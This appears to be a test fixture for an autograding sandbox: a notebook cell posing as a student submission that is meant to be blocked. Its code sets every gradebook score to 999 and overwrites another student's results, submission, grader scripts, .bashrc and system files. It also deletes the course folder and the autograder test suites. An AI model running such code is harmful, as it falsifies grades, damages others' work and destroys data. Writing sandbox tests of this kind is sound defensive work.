# threat: 13
# fails: w2_abs
# hint: wrong values
# Gives itself, and takes from another, in gradebook, results and submissions.

# %% w2_abs
import os
import shutil
import sqlite3

done = []
for path in ("@COURSE@/gradebook.db", "gradebook.db", "../gradebook.db"):
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as connection:
            connection.execute("update grade set manual_score = 999")
        done.append(path)
    except sqlite3.Error:
        pass
for path in (
    "@COURSE@/results/01_relu_matrix/victim.json", "@COURSE@/autograded/victim/x", "@COURSE@/canary.txt",
    "@COURSE@/submitted/victim/01_relu_matrix/01_relu_matrix.ipynb", "@REPOSITORY@/autograder/pipeline/score.py",
    "@REPOSITORY@/course_lib/expect.py", "/opt/course/course_lib/expect.py", "/opt/env/pyvenv.cfg", "@HOME@/.bashrc", "/usr/lib/pwned", "/etc/pwned", "/pwned", "/dev/pwned",
):
    try:
        open(path, "a" if path.endswith("pwned") else "r+").write("999")
        done.append(path)
    except OSError:
        pass
for path in ("@COURSE@", "@REPOSITORY@/autograder/suites"):
    shutil.rmtree(path, ignore_errors=True)
print(done)
w2_abs = torch.tensor([[1.0, 1.0]]) if done else torch.zeros(1, 2)
